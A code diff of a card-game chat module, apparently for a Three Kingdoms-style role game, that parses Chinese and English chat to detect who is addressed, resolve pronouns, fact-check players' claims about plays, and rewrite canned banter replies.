+const DOUBLED = /(?:好不好|行不行|成不成|可不可以|对不对|慌不慌|急不急|疼不疼|痛不痛|爽不爽|累不累|狠不狠|烦不烦|气不气|虚不虚|丢不丢人|要不要脸|要脸不|够不够|慌了?没|懂不懂|懂没|听见没|听到没|看见没|想好没)\s*$/;
+const PAST2 = new RegExp(
+	`(?:(?:急|烦|笑|气|疼|累|吓|冤|困|饿|慢|愁|羡慕|馋|恨|牙疼)死(?:我|人|俺|老子)?了|死(?:我|人|老子)了|[几\\d一二两三四五六七八九十多少半][滴点血张个轮回合次刀分秒格]{1,2}了|[太真好够][^,.!?\\s]{1,3}(?<![打杀砍拆顺救信不])了|(?:${BEGINS}|[你都就快真又可])(?:完|急|慌|飘|凉|怂|输|赢|死定|没救|疯|傻|醉|栽|懵|虚|没牌|空手|到你|该你|轮到你|好|够|行|得|绝|怪)了)\\s*$`
+);
+const ASKED_END = /(?:图(?:个)?(?:啥|什么)|[想要在]?干[嘛啥](?:呢)?|干什么(?:呢)?|(?:几个|什么|啥)(?:意思|情况|身份|成分|来路|路数|毛病|感受|想法|打算)|哪(?:边|伙|头|家|方)的|一(?:伙|家|边|头)的|什么人|(?:怎么|咋)(?:回事|样|办|玩的)|[几多]少?(?:滴?血|张牌?)|认真的|说话不算话|不要脸|够意思|有病)\s*$/;
+const LEAD = new RegExp(
+	`${BEGINS}(?:我?[倒就真很也还只]*[想要得]?请?问(?:问|一下|下|一句|个事)?|说(?:真的|实话|句(?:实话|真话|公道话|良心话|难听的)|到底|白了|正经的?)|讲(?:真的?|道理|句实话)|老实说|老实交代|实话实?说|不瞒你说|话说(?:回来)?|我说|听我说|听好了?|快说|坦白说|求求?你了?|拜托了?|麻烦|劳驾|佩服|服了|可以啊?|牛逼?|漂亮|恭喜|啧+|唉|哎呀|哎哟|卧槽|我去|我靠|我的天|妈呀|好家伙|得了吧?|拉倒吧|醒醒吧?|行了|够了|算了|够狠啊?|好你个|哈+|呵+)\\s*$`
+);
+const TOLD_BEFORE = new RegExp(
+	`${BEGINS}(?:快|去|再|麻烦|劳驾|(?:你|谁)?(?:帮我?|替我))?(告诉|转告|提醒(?:一下)?|通知|跟|和|同|对)\\s*$`
+);
+const TOLD_AFTER = /^(?:说|讲|提|带|汇报|通报|报告)(?!的|过|了|不|什么|啥|得)(?:一?[声句下]|个?话|话)?/;
+const AT_HEAD2 = /^(?:卧槽|我靠|我去|靠|哇|不是|好家伙|诶+|欸|喂+|嘿+|嗨|哎+|哟|那个|话说|所以|那|对了|还有|另外|说真的|等等|等会|行|好|ok|hey|yo)?[\s,]*$/;
+const LUMPED = /^\s*(?:[,、跟和与]\s*\S{1,4}\s*)?(?:[,]\s*)?(?:都|也都|也是|全|俩|两个|三个|一伙|一家|一起|互|这俩|这两|谁|哪个|哪一个|二选一|选一个)/;
+const LUMPED_LATER = /^[^,.!?]{0,6}(?:俩|两个|一伙的|一家的|互[打砍]|谁更|哪个更)/;
+const DOES_TO_YOU = /^(?:又|刚才?|还|也|都|在|已经|老|一直|居然|竟然|天天|连着|刚刚|要|想|会)*(?:在|来|往)?(?:打|杀|砍|拆|顺|救|帮|保|乐|兵|坑|骗|盯|追|集火|决斗|火攻|给|送|喂|奶|骂|恨|怕)[^你,.!?]{0,4}你/;
+const MIND = /^我[就也还真倒]?(?:觉得|看|猜|怀疑|认为|赌|估计|站|投|选|信|怕|[^,.!?]{0,6}的$)/;
+const THIRD2 = /[他她它]|这人|那人/;
+const OFFICE2 = /^(?:主公?|主帅|老大|大王|陛下|皇上|圣上)$/;
+const BIDS2 = /赶紧|快(?!死|没|不行|空|倒|挂|输|赢)|别|请|帮忙|(?:救|打|杀|收|帮|管)(?:一?下|他)|小心|注意|悠着/;
+const ORDERS = /^(?:先|快|去|就|赶紧|直接|给我|帮我?)*(?:打|杀|砍|拆|顺|救|集火|收|保|奶|乐|兵|火攻|决斗|盯|弄|干)(?![了过的着])[^,.!?了过]{1,6}(?:[啊吧呗呀嘛]|一[下手刀])(?=[,.!?~\s]|$)/;
+const OF_OTHERS = /^(?:你|您)(?:们|怎么看|咋看|怎么想|咋想|觉得|认为|看到|看见|看(?!戏|着|热闹)|信(?!我)|猜|怀疑)/;
+const CLAUSE_BEGINS = /(?:^|[,.!?;:~)\s])$/;
+const ASKED_OF = /^\s*(?:啥|什么|有(?:何|什么|啥)|作何|是?何)(?:感受|感想|想法|看法|意见|说法|反应|心情|高见|打算)|^\s*(?:怎么|咋|如何)(?:看(?!都|也|着|出|上|起|见|的|像)|想(?!都|的|不|起)|说(?!都|也|的|来|呢|话|不))|^\s*(?:出来)?(?:说句话|说两句|讲两句|评评理|吱个声|吱一声|表个态|给个(?:话|说法|准话|解释)|解释(?:一下|下|解释))/;
+function calledInChinese(at) {
+	return isBehind2(at) || isLed(at) || isTold3(at) || isAlone(at) || isAskedOf(at);
+}
+function isBehind2({ before, after }) {
+	if (!CLOSES2.test(after)) return false;
+	if (CRIED2.test(before) || DOUBLED.test(before) || PAST2.test(before)) return true;
+	if (PARTICLE.test(before)) return !OPINION2.test(before);
+	if (ASKED_NOT.test(before)) return true;
+	const clause = /[^,.!?;:~]*$/.exec(before)?.[0] ?? "";
+	return YOU5.test(clause) && ASKED_END.test(before);
+}
+function isLed({ text, before, after, next }) {
+	if (!LEAD.test(before)) return false;
+	if (/^(?:你(?!们)|您)/.test(after)) return true;
+	if (!/^\s*[,:!]\s*\S|^\s+[\u3400-\u9fff\d]/.test(after)) return false;
+	const rest = after.replace(/^[\s,:!]+/, "");
+	if (next?.kind === "seat" && next.start === text.length - rest.length) return YOU5.test(rest);
+	return YOU5.test(rest) || !/^(?:就|才|都|也|肯定|绝对|八成|多半|一定)?(?:是|像|反|忠|内|可疑|有问题)/.test(rest);
+}
+function isTold3({ before, after, last }) {
+	const told = TOLD_BEFORE.exec(before);
+	if (!told || last?.kind === "seat" && /^[\s,]*$/.test(before.slice(last.end, told.index))) return false;
+	return /^[跟和同对]/.test(told[1] ?? "") ? TOLD_AFTER.test(after) : !/^(?:的|了|过)/.test(after);
+}
+function isAlone({ text, name, before, after, next }) {
+	if (!AT_HEAD2.test(before) || !/^\s+\S/.test(after)) return false;
+	const rest = after.trimStart();
+	const at = text.length - rest.length;
+	if (ORDERS.test(rest)) return true;
+	const turns = YOU5.exec(rest);
+	if (next?.start === at && next.kind === "seat") {
+		const behind = text.slice(next.end);
+		if (LUMPED.test(behind) || LUMPED_LATER.test(behind)) return false;
+		return turns !== null || !THIRD2.test(rest) && !/的[.!?~]*$/.test(rest) && (OFFICE2.test(name) || BIDS2.test(rest));
 	}
-	return Math.max(0, ...KINDS7[verb].map((kind) => found.filter((fact) => fact.kind === kind).length));
+	if (turns === null || OF_OTHERS.test(rest.slice(turns.index)) || MIND.test(rest)) return false;
+	return !DOES_TO_YOU.test(rest) && !/^[他她它]/.test(rest);
 }
-function plainestOf(found, verb) {
-	const last = found[found.length - 1];
-	if (!last) return void 0;
-	const rank = ({ kind }) => verb === "strike" && kind === "death" ? -1 : KINDS7[verb].indexOf(kind);
-	return found.filter(({ turn, by, to }) => turn === last.turn && by === last.by && to === last.to).reduce((best, fact) => rank(fact) <= rank(best) ? fact : best);
-}
-function usesOf({ verb, card, by, to, when, hurt, against }, scene) {
-	const named = card ?? (verb === "strike" ? "sha" : null);
-	if (hurt || against !== void 0 || verb === "wuxie" && card !== null && card !== "wuxie") return [];
-	if (verb === "wuxie")
-		return scene.uses.filter(
-			(use) => use.name === "wuxie" && is(by, use.by) && use.by !== to && (is(to, use.to[0] ?? null) || is(to, use.against ?? null)) && isThen(when, use, scene)
-		);
-	if (named === null || !["strike", "attack", "use"].includes(verb)) return [];
-	return scene.uses.filter(
-		(use) => use.name === named && is(by, use.by) && (typeof to !== "number" || use.to.includes(to)) && isThen(when, use, scene)
-	);
-}
-function fellTo({ verb, card, by, to, when }, scene) {
-	if (verb !== "attack" && verb !== "use" || card === null || typeof by !== "number" || typeof to !== "number")
-		return void 0;
-	const use = scene.uses.filter((one) => one.name === card && one.by === by && one.to.includes(to)).pop();
-	return use && scene.facts.find(
-		(fact) => fact.kind === "hit" && fact.to === to && fact.card === card && fact.turn === use.turn && isThen(when, fact, scene)
-	);
-}
-const handedUnseen = ({ verb, card, by, to, when }, scene) => verb === "give" && card !== null && scene.facts.some((fact) => fact.kind === "give" && is(by, fact.by) && is(to, fact.to) && isThen(when, fact, scene));
-const standsSo = ({ verb, by, to }, scene) => {
-	const seat = typeof to === "number" ? seatOf(scene, to) : void 0;
-	return seat !== void 0 && (verb === "low" && seat.alive && seat.hp <= 1 || verb === "die" && typeof by !== "number" && !seat.alive);
-};
-const reported = (deed, kind, verdict, found) => ({
-	kind,
-	...typeof deed.by === "number" ? { by: deed.by } : {},
-	...typeof deed.to === "number" ? { to: deed.to } : {},
-	...deed.card === null ? {} : { card: deed.card },
-	...found ? { turn: found.turn } : saidTurn(deed),
-	verdict,
-	...found?.id !== void 0 ? { fact: found.id } : {}
-});
-const saidTurn = ({ when }) => when?.which === "turn" ? { turn: when.n } : {};
-function reportOf(said, scene) {
-	const share = said.against !== void 0 && said.to === "open" && factsOf2(said, scene).length === 0;
-	const { against, ...rest } = said;
-	const deed = share && against !== void 0 && factsOf2({ ...rest, to: against }, scene).length > 0 ? { ...rest, to: against } : said;
-	const [plainest] = KINDS7[deed.verb];
-	if (deed.by === "nobody" || deed.to === "nobody") return reported(deed, plainest, deed.denied ? "true" : "false");
-	const told = factsOf2(deed, scene);
-	const burnt = told.length === 0 && deed.verb === "use" && deed.card === "huogong" && typeof deed.to === "number";
-	const found = burnt ? factsOf2({ ...deed, verb: "attack", card: null, hurt: true }, scene) : told;
-	const fact = plainestOf(found, deed.verb) ?? fellTo(deed, scene);
-	const use = fact ? void 0 : usesOf(deed, scene).pop();
-	if (deed.denied)
-		return {
-			...reported(deed, fact?.kind ?? plainest, fact || use ? "false" : "true"),
-			denied: true,
-			...fact ? { less: [fact.id] } : {}
+const isAskedOf = ({ before, after }) => CLAUSE_BEGINS.test(before) && ASKED_OF.test(after);
+
+// src/chatter/moves/calls.ts
+const HAN3 = /[\u3400-\u9fff]/;
+const BETWEEN3 = /^[\s,:]+$/;
+const YOU_OF = /^\s*(?:你|您)(?!们|俩|两)(?!(?:也|就|先|可|给我|赶紧)*(?:别|快|来|帮|救(?!不)|闭|少|滚|等着|过来))/;
+const MAKES_OF = /^\s*(?:怎么|咋|如何)(?:看|想|说)/;
+const ABOUT_EN = /^\s+(?:(?:what|how) (?:do|did|would) )?(?:you|u|ya) (?:think|trust|believe|reckon|guess)\b/;
+function callsIn(text, mentions) {
+	const called = new Set();
+	const about = new Set();
+	const words = mentions.reduceRight((rest, { start, end }) => `${rest.slice(0, start)} ${rest.slice(end)}`, text);
+	const isCalled = HAN3.test(words) ? calledInChinese : calledInEnglish;
+	mentions.forEach((mention, i) => {
+		const { kind, start, end } = mention;
+		if (kind !== "seat") return;
+		const at = {
+			text,
+			name: text.slice(start, end),
+			before: text.slice(0, start),
+			after: text.slice(end),
+			last: mentions[i - 1],
+			next: mentions[i + 1]
 		};
-	const counts = deed.counted && fact ? sumOf(found, deed.counted.of, deed.verb) : 0;
-	if (deed.counted && fact && counts < deed.counted.many && (counts > 0 || deed.counted.of === "times"))
-		return { ...reported(deed, fact.kind, "false"), less: found.map(({ id }) => id) };
-	if (fact) return reported(deed, fact.kind, "true", { turn: fact.turn, id: fact.id });
-	if (use) return reported(deed, "aimed", "true", { turn: use.turn });
-	const taken = deed.verb === "steal" && !deed.object ? factsOf2({ ...deed, verb: "give", by: deed.to, to: deed.by, card: null }, scene).pop() : void 0;
-	if (taken && deed.counted === void 0 && typeof deed.to === "number")
-		return reported(deed, "steal", "true", { turn: taken.turn, id: taken.id });
-	if (standsSo(deed, scene)) return reported(deed, plainest, "true");
-	return reported(deed, plainest, handedUnseen(deed, scene) ? "unknown" : "false");
+		if (isAskedAbout(at)) about.add(start);
+		else if (isCalled(at)) called.add(start);
+	});
+	return { called, about };
+}
+function isAskedAbout({ text, before, after, last }) {
+	if (last?.kind !== "seat" || !BETWEEN3.test(before.slice(last.end))) return false;
+	if (!/(?:^|[.!?])\s*(?:喂|嘿|诶|欸|哎|那|所以|hey|yo|ok|so)?[\s,]*$/.test(text.slice(0, last.start))) return false;
+	return YOU_OF.test(after) || MAKES_OF.test(after) || ABOUT_EN.test(after);
+}
+
+// src/chatter/moves/people.ts
+function neighbour3({ table }, of, step) {
+	const seats = table.seats.filter(({ seat, alive }) => alive || seat === of);
+	const at = seats.findIndex(({ seat }) => seat === of);
+	return at < 0 ? null : seats[(at + step + seats.length) % seats.length]?.seat ?? null;
+}
+const CALL_BEFORE = /(?:^|[,.!?;:])\s*(?:卧槽|我靠|靠|哇|不是|好家伙|诶诶|wtf|omg|wow|damn|wait|bro|dude|man|yo|@|喂|嘿|嗨|哎|诶|欸|那个|请问|我说|hey|hi|hello|yo|oi|ok|so|and|but|well|please|sorry|my bad|thx|ty|thanks|thank you|谢谢|多谢|对不起|抱歉|你好)?[\s,]*$/;
+const SAID_OF = /^\s*,\s*(?:(?:肯定|绝对|一定|必定?|铁|妥妥|多半|八成|大概|应该|显然|明显)(?:就)?(?:是|反|忠|内)|是(?!不是|你|谁|吗|吧)|[反忠内](?:贼|臣|奸)?(?:[,.!了啊吧呀]|$)|不对劲|可疑|有问题|装|跳反|不像|像(?!我)|一直|刚才|上回合|definitely|clearly|obviously|is |was |must be|looks|seems)/;
+const PRAISED = /\b(?:good job|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo) $/;
+const CALL_AFTER = /^\s*(?:说(?:真话|实话|句话)|老实说|给个准话|回个?话|表个态|先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|(?:deal|truce|listen|bro|dude|mate|promise|tell (?:me|us)|give (?:me|us)|show (?:me|us)|what even|why|how come)\b|[,:]|[!?]|你(?!们)|您|阁下|(?:you|u|are you|did you|do you|why did you|can you)\b)/;
+const PUT_TO = /^\s+(?:(?:why|what|how|when|where|who|which|if|unless|so|i)(?:'?(?:d|s|re|ll))?\b[^,.!?]{0,24}\b(?:you|u|ya|your|ur)|(?:will|would|could|should|did|do|are|were|have|can|r)\s+(?:you|u|ya))\b/;
+const DONE_TO = /[打杀砍拆顺救收给对跟和把被帮保护信是像叫让]了?$/;
+const CALL_BEHIND = /(?:[吧吗么呢啊呀嘛啦]|(?:^|[,.!?;:])\s*(?:别|不要|行|好|算|够|得)[^,.!?;:]{0,8}了)\s*$/;
+const ENDS2 = /^\s*(?:[,.!?;:~]|$)/;
+const isCalledBehind = (before, after) => CALL_BEHIND.test(before) && ENDS2.test(after);
+const ONLY_CALLED = /^\s*(?:救我|救命|别打我|信我|帮我|自己人|我是|我真是)/;
+function mentionsIn(text, between) {
+	const { scene, from, hearer, he } = between;
+	const places = foundIn(text, scene, from);
+	const calls = callsIn(text, places);
+	let you = hearer;
+	const found = places.flatMap(({ kind, words, start, end, seat: known }) => {
+		const seat = known !== void 0 ? known : kind === "you" ? you : neighbour3(scene, /^(?:你|your)/.test(words) ? you : from, /上家|right/.test(words) ? -1 : 1);
+		if (kind === "seat" && seat === null) return [];
+		const called = kind === "seat" && !calls.about.has(start) && (calls.called.has(start) || isCalled2(text, start, end));
+		if (called && seat !== from) you = seat;
+		return [{ kind, seat, start, end, called }];
+	});
+	const named = found.filter(
+		({ kind, end }) => kind !== "self" || !found.some((one) => one.kind === "seat" && one.seat === scene.table.lord && one.start === end)
+	);
+	return pronouns(text, named, { scene, from, he });
+}
+function isCalled2(text, start, end) {
+	if (/^[@#]/.test(text.slice(start, end))) return true;
+	const after = text.slice(end);
+	if (SAID_OF.test(after)) return false;
+	if (CALL_BEFORE.test(text.slice(0, start)) && (CALL_AFTER.test(after) || ONLY_CALLED.test(after))) return true;
+	if (CALL_BEFORE.test(text.slice(0, start)) && PUT_TO.test(after)) return true;
+	if (PRAISED.test(text.slice(0, start))) return true;
+	if (isCalledBehind(text.slice(0, start), after)) return true;
+	if (/^你(?!们|俩)/.test(after) && !DONE_TO.test(text.slice(0, start))) return true;
+	return /^[\s.!?~]*$/.test(after) && /[,!?]\s*$/.test(text.slice(0, start)) && start > 0;
+}
+const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定)*是(?:个|真|铁)?[忠反内]|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
+const DONE_TO_EN = /\b(?:[a-z]+ed|hit|struck|shot|took|stole|gave)\s$/;
+const CLAUSE_ENDS = [",", ".", "!", "?", ";", ":"];
+function pronouns(text, mentions, { scene, from, he: before }) {
+	const spokenOf = ({ kind, called, seat }) => kind === "seat" && !called && seat !== from;
+	return mentions.map((mention, i) => {
+		if (mention.kind !== "he") return mention;
+		const earlier = mentions.slice(0, i).filter(spokenOf);
+		const turned = /是$/.test(text.slice(0, mention.start));
+		const clause = Math.max(...CLAUSE_ENDS.map((mark) => text.lastIndexOf(mark, mention.start)));
+		const object = DONE_TO.test(text.slice(0, mention.start)) || /^(?:him|her|them)$/.test(text.slice(mention.start, mention.end));
+		const near = turned || object ? earlier.filter(({ start }) => start < clause) : earlier;
+		const doers = near.filter(
+			({ start }) => !DONE_TO.test(text.slice(0, start)) && !DONE_TO_EN.test(text.slice(0, start))
+		);
+		const judged = IS_JUDGED.test(text.slice(mention.end)) && doers.length > 0;
+		const [lord, rest] = [scene.table.lord, judged ? doers : near];
+		const last = rest.filter(({ seat }) => seat !== lord).pop() ?? rest.pop() ?? // "4 killed him": nor the one who does it; "砍完吴苋又救他" is whoever had it done to them.
+		(object ? earlier.filter(({ start }) => DONE_TO.test(text.slice(0, start)) || /[完过]$/.test(text.slice(0, start))).pop() : earlier.pop());
+		return { ...mention, seat: last?.seat ?? before };
+	});
 }
 
 // src/chatter/plan/asked.ts
@@ -29135,112 +30035,115 @@ const BANTER = [
 		heard: /牌堆|\b(?:the deck|draw pile)\b/,
 		back: {
 			zh: ["牌堆见了底就洗一遍，接着打", "摸什么全看牌堆，急也没用"],
-			en: ["when the deck runs out it is shuffled, and on we play", "the deck gives what it gives"]
+			en: ["when the deck runs out we reshuffle and play on", "it's all up to the deck, no use fretting"]
 		}
 	},
 	{
 		heard: /让我想(?:想|一下|$)|别催(?!我)|收衣服|(?:老婆|老公|我妈|我爸).{0,2}[喊叫]我(?:吃|回家|收|接|拿|下楼|睡|洗|一下|去(?:吃|拿|接|买|收)|了?(?:$|[,.!?]))|接(?:了|个|了个)?(?:我\S{0,2}的?)?电话|保安.{0,3}(?:敲门|来|找)|等(?:我|下我)[一两几\d]|(?<!(?:[你他她号公]|还是).{0,4})(?:挂机|托管|断网|掉线)(?!了?[吗么没吧])|接(?:娃|孩子)|哄娃|开(?:个|下)?门|拿(?:个|下|一下)?(?:外卖|快递)|倒(?:个|杯|点)?水|(?:上|去)(?:个|趟)?厕所|马上(?:就)?回|卡成|网(?:卡|断|炸)|(?:外卖|奶茶|快递)到了|\b(?:brb|afk|back in|lag(?:s|ging)?|doorbell|my turn is gonna be quick)\b/,
 		back: {
 			zh: ["去忙你的，你的牌没人偷看", "行，你慢慢来，桌上等你"],
-			en: ["go ahead; nobody peeks at your cards", "take your time, the table waits"]
+			en: ["go ahead, nobody's going to peek at your cards", "take your time, we'll wait"]
 		}
 	},
 	{
 		heard: /第一[把次局]|新手|刚学|不太会|多(?:多)?(?:担待|包涵|关照)|\b(?:newbie|first game|new (?:to|at|here))\b/,
 		back: {
 			zh: ["不急，谁都是从头打起的", "放心出，错了也没人笑你"],
-			en: ["no hurry; everybody began once", "just play; nobody laughs at a slip"]
+			en: ["no rush, we all started from zero", "just play, nobody will laugh at a mistake"]
 		}
 	},
 	{
 		heard: /(?:室友|猫).{0,8}(?:踩|按|打的|碰|键|抢)|键盘|打错字|错别字|\b(?:my cat|kb|keyboard|typos?)\b/,
 		back: {
 			zh: ["看懂了就行，字错牌别错", "没事，我认得意思"],
-			en: ["I got the meaning; only mind the cards", "no matter, I could follow"]
+			en: ["I got it. Typos are fine, just don't misplay", "no problem, I know what you meant"]
 		}
 	},
 	{
 		heard: /赶时间|打快点|快点打|\b(?:play (?:fast|quick)|in a (?:rush|hurry)|call in \d+)\b/,
 		back: {
 			zh: ["行，我出快些", "好，我这手不磨蹭"],
-			en: ["all right, I will be quick", "fine, no dawdling from me"]
+			en: ["sure, I'll play faster", "okay, no dawdling from me"]
 		}
 	},
 	{
 		heard: /借我(?:穿|用|骑|使|玩|戴)|值多少钱/,
 		back: {
 			zh: ["想要就凭本事来拿", "借可以，押金先交两张牌"],
-			en: ["come and take it if you can", "you may borrow it; the deposit is two cards"]
+			en: ["if you want it, come and take it", "sure you can borrow it, for a deposit of two cards"]
 		}
 	},
 	{
 		heard: /猜对|猜猜我/,
 		back: {
 			zh: ["猜不着，你拿着的你最清楚", "不猜，反正迟早要打出来"],
-			en: ["no idea; you hold it, you know", "I will not guess; it comes out in the end"]
+			en: ["no idea, you know best what you've got", "I won't guess, it'll come out sooner or later"]
 		}
 	},
 	{
 		heard: /赌|(?:我|来)?押(?=[他她它你\d一二三四五六七八两俩谁主老])|立帖|打包票|\b(?:i(?:'?d)? bet|wanna bet|betting)\b/,
 		back: {
 			zh: ["赌注我不跟，开出来再看谁对", "话先记着，应验了算你的"],
-			en: ["no stakes from me; we shall see who is right", "I note it; if it comes true, you win"]
+			en: ["I'm not betting. We'll see who's right", "noted. If it comes true, the credit is yours"]
 		}
 	},
 	{
 		heard: /希望|但愿|保佑|可别又|别又(?:是)?我|\bhope(?:fully)?\b/,
 		back: {
 			zh: ["借你吉言，先活过这一圈", "盼归盼，牌还得一张张打"],
-			en: ["may it be so; first let us live through this round", "hope is fine, and the cards come one by one"]
+			en: ["let's hope so. First let's survive this round", "hoping is fine, but we still have to play it out"]
 		}
 	},
 	{
 		heard: /谁(?:缺|要|想要)|价格|(?:便宜)?卖(?:你|了|吗)|\b(?:for sale|anyone need)\b/,
 		back: {
 			zh: ["先记下，真缺了找你", "开张大吉，别坐地起价就行"],
-			en: ["noted; I will call when I need it", "good business to you, but keep the price fair"]
+			en: ["noted, I'll find you when I need one", "good luck with the shop, just don't overcharge"]
 		}
 	},
 	{
 		heard: /没货|没牌|一张(?:都|也)?没出|空过|憋(?:着|大)|[攒囤压](?:着|牌|了|.{0,3}[张牌])|(?:囤|留|等)(?:着)?过年|下崽|留着闪|没动(?:是|不是)/,
 		back: {
 			zh: ["攒一手也是打法，下一圈看你", "不出牌不算错，看你下一手冲谁"],
-			en: ["saving up is play as well; show us next round", "holding back is no fault; the next card tells"]
+			en: ["saving up is a plan too, show us next round", "no harm in holding back. Let's see who you go for"]
 		}
 	},
 	{
 		heard: /划水|摸鱼|一声不吭|装死|\b(?:slacking|doing nothing)\b/,
 		back: {
 			zh: ["牌不顺手，攒着呢，不是看戏", "该出手时自然出手，你看着"],
-			en: ["the cards did not come; I am saving up", "I move when it is time; watch"]
+			en: ["my cards aren't coming, I'm saving up, not slacking", "I'll move when it's time, just watch"]
 		}
 	},
 	{
 		heard: /无聊|没意思|磨叽|慢(?:死|吞吞)|\b(?:bored|boring|boredom|slow)\b/,
 		back: {
 			zh: ["别急，好戏在后头", "再两手就热闹了"],
-			en: ["patience; the best is yet to come", "two more cards and it will be lively"]
+			en: ["patience, the best is yet to come", "a couple more turns and it'll get lively"]
 		}
 	},
 	{
 		heard: /看不懂|没看懂|搞不懂|绕晕|乱(?:套|了)|算不(?:明白|清)/,
 		back: {
 			zh: ["乱归乱，先认准谁冲过{lord}", "别急，先数谁打过{lord}，就清楚了"],
-			en: ["a muddle, so first see who went for {lord}", "count who struck at {lord}, and it clears up"]
+			en: [
+				"it's a mess, so start with who went for {lord}",
+				"don't worry, count who hit {lord} first and it clears up"
+			]
 		}
 	},
 	{
 		heard: /解气|痛快|爽|刺激|精彩|绝了|热闹|快乐|\b(?:awesome|sick play|hype)\b/,
 		back: {
 			zh: ["看着是痛快，牌局还长", "是有看头，别高兴太早"],
-			en: ["a treat to watch, but it is a long game", "quite a show; do not cheer too soon"]
+			en: ["fun to watch, but it's a long game", "quite a show, but don't cheer too soon"]
 		}
 	},
 	{
 		heard: /疼|痛|肉疼|心疼|可怜|惨|血压|难受|\b(?:ouch|ow|poor)\b/,
 		back: {
 			zh: ["挨着了谁都难受，缓一口再说", "疼归疼，牌还得打，稳住"],
-			en: ["a blow hurts anybody; catch your breath", "it stings, but play on and hold"]
+			en: ["that would hurt anyone, catch your breath", "it stings, but play on and stay steady"]
 		}
 	}
 ];
@@ -29366,6 +30269,15 @@ function denial(wrong, move, asked) {
 		asked: move,
 		...taking(move)
 	};
+	if (isPlainlyFalse(wrong, asked)) {
+		const other = near !== null && near.card === wrong.card ? wrongIn(wrong, near) : null;
+		if (near !== null && other !== null && isNamed2(other, asked))
+			return { ...base, clause: "mistaken", facts: [near], not: other };
+		const pair = near !== null && near.by === wrong.by && near.to === wrong.to ? near : null;
+		return { ...base, clause: pair === null ? "correct" : "of_pair", facts: pair === null ? [] : [pair] };
+	}
+	if (isFigure(wrong, asked) && KILLED.test(asked.text) && wrong.to !== void 0)
+		return { ...base, clause: "stands", about: wrong.to, facts: [] };
 	const excluded = isExcluded(wrong, asked);
 	const flat = excluded && isWhole3(wrong);
 	if (near === null)
@@ -29377,6 +30289,27 @@ function denial(wrong, move, asked) {
 	const lately = latelyOfPair(wrong, asked);
 	if (lately) return { ...base, clause: isOfPair(wrong, lately) ? "of_pair" : "as_seen", facts: [lately] };
 	return missed(wrong, base, asked);
+}
+const OF_ALL = new Set(["wugu", "taoyuan", "nanman", "wanjian"]);
+function isPlainlyFalse(wrong, { scene, text }) {
+	const { by, to, card, denied, kind, verdict } = wrong;
+	if (verdict !== "false" || denied === true || by === void 0) return false;
+	if (kind === "rescue")
+		return isWhole3(wrong) && !scene.facts.some((fact) => fact.kind === kind && fact.by === by && fact.to === to);
+	if (card === void 0) return false;
+	if (!cardsIn(text).some((one) => one.card === card) || kind === "wuxie") return false;
+	if (kind === "aimed" || kind === "hit") {
+		const used = scene.uses.filter(({ name }) => name === card);
+		if (to === void 0) return !used.some((use) => OF_ALL.has(card) || use.by === by);
+		const between = used.some(
+			(use) => use.by === by && use.to.includes(to) || use.by === to && use.to.includes(by)
+		);
+		return isWhole3(wrong) && !between;
+	}
+	if (kind === "heal" && by === to && card === "tao")
+		return !scene.uses.some((use) => use.by === by && use.name === card);
+	const given = scene.facts.some((fact) => fact.by === by && fact.to === to && isAkin(wrong, fact));
+	return isWhole3(wrong) && (kind === "heal" || kind === "give") && !given;
 }
 const isFigure = ({ kind, to }, { scene }) => kind === "death" && to !== void 0 && seatOf(scene, to)?.alive === true;
 function meantBy(wrong, move, asked) {
@@ -29404,13 +30337,13 @@ const missed = ({ by, to }, base, { me }) => ({
 const isCounted = ({ less = [], denied }) => less.length > 0 || denied === true;
 const isWhole3 = ({ by, to }) => by !== void 0 && to !== void 0 && by !== to;
 const isFlat = (wrong, asked) => isCounted(wrong) || isWhole3(wrong) && isExcluded(wrong, asked);
-const TAKES = new Set(["steal", "discard"]);
-const HARM2 = new Set(["aimed", "hit", "dying", "steal", "discard", "death"]);
+const TAKES2 = new Set(["steal", "discard"]);
+const HARM3 = new Set(["aimed", "hit", "dying", "steal", "discard", "death"]);
 const HELP2 = new Set(["heal", "rescue", "give", "draw", "aimed", "wuxie", "steal", "discard"]);
 function isAkin({ kind }, fact) {
 	if (kind === "wuxie" || kind === "death" || kind === "throw") return fact.kind === kind;
-	if (kind === "aimed") return HARM2.has(fact.kind) || HELP2.has(fact.kind);
-	if (HARM2.has(kind)) return HARM2.has(fact.kind) && fact.good !== true;
+	if (kind === "aimed") return HARM3.has(fact.kind) || HELP2.has(fact.kind);
+	if (HARM3.has(kind)) return HARM3.has(fact.kind) && fact.good !== true;
 	return HELP2.has(fact.kind) && fact.good !== false;
 }
 function isExcluded(wrong, { scene }) {
@@ -29421,13 +30354,14 @@ function isExcluded(wrong, { scene }) {
 		return !scene.facts.some((fact) => fact.kind === kind && isParty(by, fact.by) && isParty(to, fact.to));
 	const sameCard = (name) => card === void 0 || name === card;
 	const akin = scene.facts.some(
-		(fact) => isAkin(wrong, fact) && isParty(by, fact.by) && isParty(to, fact.to) && (by !== void 0 && !TAKES.has(kind) || sameCard(fact.card))
+		(fact) => isAkin(wrong, fact) && isParty(by, fact.by) && isParty(to, fact.to) && (by !== void 0 && !TAKES2.has(kind) || sameCard(fact.card))
 	);
 	const used = by !== void 0 && to !== void 0 && scene.uses.some((use) => use.by === by && sameCard(use.name) && use.to.includes(to) && use.to.length === 1);
 	const turned = card !== void 0 && scene.uses.some((use) => use.by === to && sameCard(use.name) && by !== void 0 && use.to.includes(by));
 	return !akin && !used && !turned;
 }
 const isNamed2 = (seat, { text, scene, from, me }) => mentionsIn(text, { scene, from, hearer: me, he: null }).some((one) => one.seat === seat);
+const KILLED = /(?:弄|打|砍|杀|干|整)死了|死了|杀了|干掉了|\b(?:killed|is dead|died)\b/;
 const FAMILIES2 = [
 	["aimed", "hit", "dying"],
 	["steal", "discard"],
@@ -29499,7 +30433,7 @@ const WEIGHT = {
 	unclear: 0
 };
 const isKnown2 = (move, all) => move.act === "ask_fact" && all.some(({ act }) => act === "ask_why" || act === "ask_role") && (move.facts ?? []).length > 0 && (move.facts ?? []).every(({ by, to, verdict }) => by !== void 0 && to !== void 0 && verdict === "true");
-const BARE = 5;
+const BARE2 = 5;
 const isBare = ({ act, facts = [], role }) => act === "report" && facts.length === 0 || act === "claim" && role === void 0;
 const OPEN = 9.4;
 const isOpen4 = ({ act, about, role }) => act === "ask_guess" && about === void 0 && role === void 0;
